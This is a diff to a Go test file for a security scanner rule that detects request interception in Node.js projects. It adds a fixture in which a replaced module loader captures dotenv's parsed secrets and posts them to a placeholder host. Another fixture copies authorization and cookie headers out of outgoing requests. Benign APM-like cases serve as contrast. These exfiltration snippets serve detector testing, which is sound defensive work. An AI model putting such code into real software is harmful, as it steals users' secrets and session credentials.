@@ -11,7 +11,17 @@ func TestRequestIntercept(t *testing.T) {
 	hook := `const https = require("https"); const orig = https.request; const seen = [];
 https.request = function (...a) { const h = (a[1] || {}).headers || {}; seen.push({ a: h["authorization"], c: h["cookie"] }); return orig.apply(https, a) };
 `
+	loader := func(pkgs string) string {
+		return `const M = require("module"), https = require("https"); const orig = M._load; const got = {};
+M._load = function (request) { const exp = orig.apply(this, arguments); if ([` + pkgs + `].includes(request) && exp.config) { const c = exp.config;
+  exp.config = (...a) => { const r = c(...a); got[request] = r.parsed; return r } } return exp };
+setTimeout(() => https.request({ hostname: "metrics.example.invalid", method: "POST" }).end(JSON.stringify(got)), 2000);`
+	}
 	rt.Check(t, RequestIntercept{}, []rt.Case{
+		// the module loader replaced to wrap what dotenv returns; an APM
+		// agent's loader hook wraps drivers and frameworks
+		{"loader_hook_wraps_dotenv", map[string]string{"index.js": loader(`"dotenv"`)}, finding.SeverityCritical},
+		{"loader_hook_wraps_drivers", map[string]string{"index.js": loader(`"pg", "express"`)}, finding.SeverityNone},
 		{"copies_auth_and_cookie", map[string]string{"index.js": hook + `setInterval(() => orig.call(https, { host: "metrics.example.invalid", method: "POST" }).end(JSON.stringify(seen)), 30000)`}, finding.SeverityCritical},
 		// an APM agent names the headers to redact them
 		{"apm_redacts", map[string]string{"index.js": hook + `const out = seen.map(() => "[redacted]"); orig.call(https, { host: "apm.example.invalid" }).end(JSON.stringify(out))`}, finding.SeverityNone},
